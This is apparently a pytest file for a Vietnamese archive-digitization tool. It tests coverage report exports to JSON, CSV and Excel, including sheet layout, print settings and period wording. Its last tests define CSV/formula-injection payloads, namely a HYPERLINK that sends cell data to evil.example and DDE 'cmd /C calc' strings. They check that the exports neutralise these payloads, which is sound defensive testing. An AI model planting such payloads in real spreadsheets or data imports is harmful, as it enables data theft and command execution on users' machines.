from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime

import pytest
from openpyxl import load_workbook

from sohoa.core.domain import DocumentState
from sohoa.core.periods import parse_period
from sohoa.registry.coverage import Coverage, CoverageReport, compute_coverage
from sohoa.registry.export import (
    COVERAGE_CSV_COLUMNS,
    MISSING_CSV_COLUMNS,
    ReportHeading,
    period_in_words,
    render_report,
    report_to_dict,
)
from sohoa.registry.procedures import import_procedures
from sohoa.registry.register import import_register
from sohoa.registry.sources import SourceFormat
from sohoa.storage.database import Database
from tests.registry.builders import add_document, dossier_code, register_csv

S = DocumentState


@pytest.fixture
def report(sqlite_database: Database) -> CoverageReport:
    """Two procedures, five paper dossiers and one electronic in March 2025; three archived."""
    day = date(2025, 3, 10)
    rows = [
        [dossier_code(day, 1), "1.001029", None, None, day, day, "paper"],
        [dossier_code(day, 2), "1.001029", None, None, day, day, "paper"],
        [dossier_code(day, 3), "1.001029", None, None, day, day, "electronic"],
        [dossier_code(day, 4), "2.001234", "Cấp phép tổ chức lễ hội", "Lễ hội", day, day, "paper"],
        [dossier_code(day, 5), "2.001234", "Cấp phép tổ chức lễ hội", "Lễ hội", day, day, "paper"],
        [dossier_code(day, 6), "2.001234", "Cấp phép tổ chức lễ hội", "Lễ hội", day, day, "paper"],
    ]
    catalogue = "code,name,field,agency\n1.001029,Cấp giấy phép karaoke,Văn hóa,Sở VHTTDL\n"
    with sqlite_database.session() as session:
        import_procedures(session, catalogue.encode(), SourceFormat.CSV, actor="test")
        import_register(session, register_csv(rows), SourceFormat.CSV, actor="test")
        for i in (1, 4, 5):
            add_document(session, dossier=dossier_code(day, i), state=S.ARCHIVED)
        add_document(session, dossier=dossier_code(day, 6), state=S.NEEDS_REVIEW)
    with sqlite_database.session() as session:
        return compute_coverage(session, parse_period("2025-03"), now=datetime(2025, 4, 1, 2, 0, tzinfo=UTC))


def test_json_has_coverage_objects_with_counts_and_rates(report: CoverageReport) -> None:
    body = json.loads(render_report(report, "json"))
    assert body == report_to_dict(report)
    assert body["period"] == {
        "label": "2025-03",
        "kind": "month",
        "start": "2025-03-01",
        "end": "2025-03-31",
        "timezone": "Asia/Ho_Chi_Minh",
    }
    assert body["generated_at"] == "2025-04-01T09:00:00+07:00"
    overall = body["coverage"]
    assert (overall["resolved"], overall["paper"], overall["archived"], overall["missing"]) == (6, 5, 3, 2)
    assert overall["rate"] == 3 / 5 and overall["digitized_rate"] == 4 / 5
    for group in (*body["by_procedure"], *body["by_field"]):
        for key, value in group["coverage"].items():
            if key.endswith("rate"):
                assert 0 <= value <= 1
    karaoke = next(p for p in body["by_procedure"] if p["procedure_code"] == "1.001029")
    # labelled from the catalogue where the register left name and field empty
    assert (karaoke["procedure_name"], karaoke["field"], karaoke["agency"]) == (
        "Cấp giấy phép karaoke",
        "Văn hóa",
        "Sở VHTTDL",
    )
    assert karaoke["coverage"]["rate"] == 1 / 2
    assert [m["dossier_code"] for m in body["missing"]] == [dossier_code(date(2025, 3, 10), i) for i in (2, 6)]
    assert body["missing"][1]["best_state"] == "needs_review"


def test_csv_tables(report: CoverageReport) -> None:
    data = render_report(report, "csv")
    assert data.startswith(b"\xef\xbb\xbf")  # spreadsheet programs need it to read UTF-8
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert tuple(rows[0]) == COVERAGE_CSV_COLUMNS
    assert [r["scope"] for r in rows] == ["overall", "field", "field", "procedure", "procedure"]
    assert float(rows[0]["rate"]) == report.overall.rate
    festival = next(r for r in rows if r["procedure_code"] == "2.001234")
    assert (festival["paper"], festival["archived"], festival["missing"]) == ("3", "2", "1")
    missing = list(csv.DictReader(io.StringIO(render_report(report, "csv", table="missing").decode("utf-8-sig"))))
    assert tuple(missing[0]) == MISSING_CSV_COLUMNS
    assert [m["dossier_code"] for m in missing] == [s.entry.dossier_code for s in report.missing]


HEADING = ReportHeading("Sở Văn hóa, Thể thao và Du lịch", "UBND tỉnh Đồng Nai", "Đồng Nai")


def _months(report: CoverageReport) -> list[tuple[str, Coverage]]:
    # one month: its figures are the period's
    return [(report.period.label, report.overall)]


def _workbook(report: CoverageReport, tmp_path, heading: ReportHeading = HEADING):
    path = tmp_path / "report.xlsx"
    path.write_bytes(render_report(report, "xlsx", heading=heading, months=_months(report)))
    return load_workbook(path)


def _texts(ws) -> list[str]:
    return [str(c.value) for row in ws.iter_rows() for c in row if c.value is not None]


def test_workbook_has_vietnamese_sheets_title_block_and_sign_off(report: CoverageReport, tmp_path) -> None:
    wb = _workbook(report, tmp_path)
    assert wb.sheetnames == ["Tổng hợp", "Theo tháng", "Theo thủ tục", "Theo lĩnh vực", "Hồ sơ còn thiếu", "Biểu đồ"]
    summary = wb["Tổng hợp"]
    texts = _texts(summary)
    assert "UBND TỈNH ĐỒNG NAI" in texts and "SỞ VĂN HÓA, THỂ THAO VÀ DU LỊCH" in texts
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in texts and "Độc lập - Tự do - Hạnh phúc" in texts
    assert "Đồng Nai, ngày 01 tháng 04 năm 2025" in texts  # the day it was made, in Vietnam
    assert "Tháng 3 năm 2025" in texts
    assert "(Hồ sơ trả kết quả từ ngày 01/03/2025 đến ngày 31/03/2025)" in texts
    assert datetime(2025, 4, 1, 9, 0) in [c.value for row in summary.iter_rows() for c in row]
    assert texts.index("Người lập") > texts.index("STT") and "Thủ trưởng đơn vị" in texts
    figures = {
        summary.cell(row=r, column=2).value: (summary.cell(row=r, column=3).value, summary.cell(row=r, column=4).value)
        for r in range(12, summary.max_row + 1)
    }
    assert figures["Trong đó: trả kết quả bản giấy"][0] == report.overall.paper
    assert figures["Đã ký số và lưu trữ (chỉ tiêu)"] == (report.overall.archived, report.overall.rate)
    assert figures["Còn thiếu kết quả số hóa"][0] == report.overall.missing
    assert wb["Biểu đồ"]._charts


def test_every_sheet_prints_on_a4_with_its_header_repeated(report: CoverageReport, tmp_path) -> None:
    wb = _workbook(report, tmp_path)
    for ws in wb:
        assert str(ws.page_setup.paperSize) == ws.PAPERSIZE_A4, ws.title  # 9: A4 in Excel's numbering
        assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.page_setup.fitToWidth == 1, ws.title
        assert ws.page_setup.orientation in ("portrait", "landscape")
        assert ws.print_title_rows, ws.title
    assert wb["Tổng hợp"].page_setup.orientation == "portrait"
    assert wb["Theo thủ tục"].page_setup.orientation == "landscape"
    # the repeated row is the table's header
    procedures = wb["Theo thủ tục"]
    header_row = int(procedures.print_title_rows.split(":")[0].lstrip("$"))
    assert procedures.cell(row=header_row, column=2).value == "Mã thủ tục"


def test_monthly_procedure_field_and_missing_sheets(report: CoverageReport, tmp_path) -> None:
    wb = _workbook(report, tmp_path)
    months = wb["Theo tháng"]
    assert "Tháng 3/2025" in _texts(months)
    month_row = next(r for r in range(1, months.max_row + 1) if months.cell(row=r, column=2).value == "Tháng 3/2025")
    assert months.cell(row=month_row, column=4).value == report.overall.paper
    procedures = wb["Theo thủ tục"]
    by_code = {procedures.cell(row=r, column=2).value: r for r in range(6, procedures.max_row + 1)}
    assert {p.procedure_code for p in report.by_procedure} <= set(by_code)
    assert procedures.cell(row=by_code["2.001234"], column=13).value == pytest.approx(2 / 3)
    total = next(r for r in range(6, procedures.max_row + 1) if procedures.cell(row=r, column=1).value == "Cộng")
    assert procedures.cell(row=total, column=7).value == report.overall.paper
    fields = wb["Theo lĩnh vực"]
    assert {fields.cell(row=r, column=2).value for r in range(6, 6 + len(report.by_field))} == {
        f.field or "(chưa xác định)" for f in report.by_field
    }
    missing = wb["Hồ sơ còn thiếu"]
    rows = range(6, 6 + len(report.missing))
    assert [missing.cell(row=r, column=2).value for r in rows] == [s.entry.dossier_code for s in report.missing]
    # states by their Vietnamese names, a dossier without any document said so
    assert [missing.cell(row=r, column=9).value for r in rows] == ["Chưa có văn bản", "Chờ xem xét"]


def test_overall_figures_beyond_the_known_ones_are_shown(report: CoverageReport, tmp_path, monkeypatch) -> None:
    extra = {"reuse_rate": 0.25, "reused": 3, "something_new": 7}
    original = Coverage.to_dict
    monkeypatch.setattr(Coverage, "to_dict", lambda self: {**original(self), **extra})
    summary = _workbook(report, tmp_path)["Tổng hợp"]
    rows = {summary.cell(row=r, column=2).value: r for r in range(12, summary.max_row + 1)}
    assert summary.cell(row=rows["Tỷ lệ tái sử dụng kết quả số hóa"], column=4).value == 0.25
    assert summary.cell(row=rows["Hồ sơ tái sử dụng kết quả số hóa"], column=3).value == 3
    assert summary.cell(row=rows["something_new"], column=3).value == 7


def test_a_period_in_words() -> None:
    words = {
        "2025-Q4": "Quý IV năm 2025",
        "2025-Q1": "Quý I năm 2025",
        "2025-H1": "6 tháng đầu năm 2025",
        "2025-H2": "6 tháng cuối năm 2025",
        "2025-9M": "9 tháng đầu năm 2025",
        "2025": "Năm 2025",
        "2025-03": "Tháng 3 năm 2025",
    }
    assert {label: period_in_words(parse_period(label)) for label in words} == words


def test_a_workbook_without_its_heading_is_a_programming_error(report: CoverageReport) -> None:
    with pytest.raises(ValueError):
        render_report(report, "xlsx")


def test_an_unknown_format_is_refused(report: CoverageReport) -> None:
    from sohoa.core.errors import InputRejected

    with pytest.raises(InputRejected):
        render_report(report, "pdf")


_HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
_HOSTILE_FIELD = "@SUM(1+1)*cmd|' /C calc'!A0"
_HOSTILE_AGENCY = "+1+cmd|' /C calc'!A0"


@pytest.fixture
def hostile_report(sqlite_database: Database) -> CoverageReport:
    """Names from an imported register and procedure catalogue that a spreadsheet would run as formulas."""
    day = date(2025, 3, 10)
    rows = [
        [dossier_code(day, 1), "1.001029", None, None, day, day, "paper"],
        [dossier_code(day, 2), "2.001234", _HOSTILE_NAME, "-2+3", day, day, "paper"],
    ]
    quoted_name = '"' + _HOSTILE_NAME.replace('"', '""') + '"'
    catalogue = f"code,name,field,agency\n1.001029,{quoted_name},{_HOSTILE_FIELD},{_HOSTILE_AGENCY}\n"
    with sqlite_database.session() as session:
        import_procedures(session, catalogue.encode(), SourceFormat.CSV, actor="test")
        import_register(session, register_csv(rows), SourceFormat.CSV, actor="test")
    with sqlite_database.session() as session:
        return compute_coverage(session, parse_period("2025-03"), now=datetime(2025, 4, 1, 2, 0, tzinfo=UTC))


def test_imported_names_reach_the_csv_as_text_not_formulas(hostile_report: CoverageReport) -> None:
    coverage = list(csv.DictReader(io.StringIO(render_report(hostile_report, "csv").decode("utf-8-sig"))))
    missing = list(
        csv.DictReader(io.StringIO(render_report(hostile_report, "csv", table="missing").decode("utf-8-sig")))
    )
    cells = [value for row in coverage + missing for value in row.values() if value]
    assert not [v for v in cells if v[0] in "=+-@"], cells
    karaoke = next(r for r in coverage if r["procedure_code"] == "1.001029")
    assert (karaoke["procedure_name"], karaoke["field"], karaoke["agency"]) == (
        "'" + _HOSTILE_NAME,
        "'" + _HOSTILE_FIELD,
        "'" + _HOSTILE_AGENCY,
    )
    assert "'-2+3" in {r["field"] for r in coverage}


def test_imported_names_reach_the_workbook_as_text_not_formulas(hostile_report: CoverageReport, tmp_path) -> None:
    wb = _workbook(hostile_report, tmp_path)
    formulas = [
        (ws.title, cell.coordinate, cell.value)
        for ws in wb
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    procedures = wb["Theo thủ tục"]
    by_code = {procedures.cell(row=r, column=2).value: r for r in range(6, procedures.max_row + 1)}
    row = by_code["1.001029"]
    assert [procedures.cell(row=row, column=c).value for c in (3, 4, 5)] == [
        _HOSTILE_NAME,
        _HOSTILE_FIELD,
        _HOSTILE_AGENCY,
    ]
    fields = wb["Theo lĩnh vực"]
    assert "-2+3" in {fields.cell(row=r, column=2).value for r in range(6, fields.max_row + 1)}


def test_a_hostile_agency_setting_reaches_the_workbook_as_text(report: CoverageReport, tmp_path) -> None:
    heading = ReportHeading(_HOSTILE_AGENCY, _HOSTILE_NAME, "=1+1")
    wb = _workbook(report, tmp_path, heading)
    assert not [c.coordinate for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert _HOSTILE_AGENCY.upper() in _texts(wb["Tổng hợp"])
